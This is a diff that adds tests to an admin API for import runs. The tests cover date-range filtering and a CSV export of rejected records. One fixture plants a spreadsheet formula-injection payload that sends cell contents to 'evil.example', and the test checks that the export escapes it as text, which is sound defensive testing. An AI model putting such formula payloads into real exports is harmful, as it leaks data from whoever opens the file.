@@ -101,6 +101,31 @@ describe('runs admin API', () => {
     expect((await fx.app.inject({ method: 'GET', url: '/admin/api/runs/999999/rejects', headers: fx.auth })).statusCode).toBe(404);
   });
 
+  it('filters by the period a run was received in', async () => {
+    await fx.db.db.updateTable('runs').set({ received_at: new Date('2026-01-10T10:00:00Z') }).where('id', '=', first).execute();
+    const ids = async (q: string) => (await fx.app.inject({ method: 'GET', url: `/admin/api/runs?${q}`, headers: fx.auth })).json().runs.map((r: { id: number }) => r.id);
+    expect(await ids('from=2026-01-10T00:00:00Z&to=2026-01-11T00:00:00Z')).toEqual([first]);
+    expect(await ids(`from=${encodeURIComponent(new Date(Date.now() - 3_600_000).toISOString())}`)).toEqual([second]);
+    expect(await ids('to=2026-01-10T10:00:00Z')).toEqual([]); // to is exclusive
+    expect((await fx.app.inject({ method: 'GET', url: '/admin/api/runs?from=yesterday', headers: fx.auth })).json().problems[0]).toMatchObject({ path: '/querystring/from', rule: 'format' });
+  });
+
+  it('downloads every reject as CSV for Excel, a formula in a reason kept as text', async () => {
+    await fx.db.db.insertInto('rejects').values({
+      run_id: first, file_name: 'big.txt', line: 4, field: 'sku', rule: 'required', reason: '=HYPERLINK("http://evil.example/?"&A1;"x")', record: JSON.stringify({ sku: '' }),
+    }).execute();
+    const res = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${first}/rejects.csv`, headers: fx.auth });
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(res.headers['content-disposition']).toBe(`attachment; filename="run-${first}-rejects.csv"`);
+    const lines = res.body.split('\r\n');
+    expect(lines[0]).toBe('\uFEFFfile;line;path;field;rule;reason;record');
+    expect(lines[1]).toBe('big.txt;1;;price;decimal;bad price on line 1;"{""price"":""x""}"');
+    expect(lines[4]).toBe(`big.txt;4;;sku;required;"'=HYPERLINK(""http://evil.example/?""&A1;""x"")";"{""sku"":""""}"`);
+    expect(lines.slice(5)).toEqual(['']);
+    expect((await fx.app.inject({ method: 'GET', url: '/admin/api/runs/999999/rejects.csv', headers: fx.auth })).statusCode).toBe(404);
+  });
+
   it('approves and rejects only held runs, replays only finished ones', async () => {
     let res = await fx.app.inject({ method: 'POST', url: `/admin/api/runs/${first}/approve`, headers: fx.auth });
     expect(res.statusCode).toBe(409);
